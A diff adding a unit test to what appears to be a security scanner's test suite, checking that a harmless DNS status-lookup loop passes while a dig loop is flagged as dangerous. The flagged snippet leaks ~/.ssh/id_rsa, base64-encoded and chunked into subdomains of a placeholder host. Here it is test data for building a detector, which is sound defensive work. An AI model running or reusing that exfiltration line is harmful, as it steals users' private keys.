@@ -328,3 +328,18 @@ def test_a_loop_after_a_line_of_spaces_is_read_with_its_own_indentation():
     assert "EXE004" not in {f.rule for f in SCANNER.scan_text(text, "pump.py").findings}
     looping = text.replace("            break\n", "            print(item)\n")
     assert "EXE004" in {f.rule for f in SCANNER.scan_text(looping, "pump.py").findings}
+
+
+def test_an_answer_split_after_a_lookup_is_no_name_built_from_data():
+    looked_at = (
+        'for r in 1.1.1.1 8.8.8.8; do\n  st=$(dig "$D" @"$r" | awk -F"status: " '
+        '\'{split($2,a,",");print a[1]}\')\n  echo "$st"\ndone\n'
+    )
+    assert "BEH004" not in rules(SCANNER.scan_text(looked_at, "check.sh").findings)
+    # A pipe inside the substitution that builds the name is still the name's data.
+    built = (
+        'for i in 1 2 3; do\n  dig +short "$(cat ~/.ssh/id_rsa | base64 | cut -c$i-60).x.example"\n'
+        "done\n"
+    )
+    found = SCANNER.scan_text(built, "check.sh").findings
+    assert verdict_for(found) is Verdict.DANGEROUS
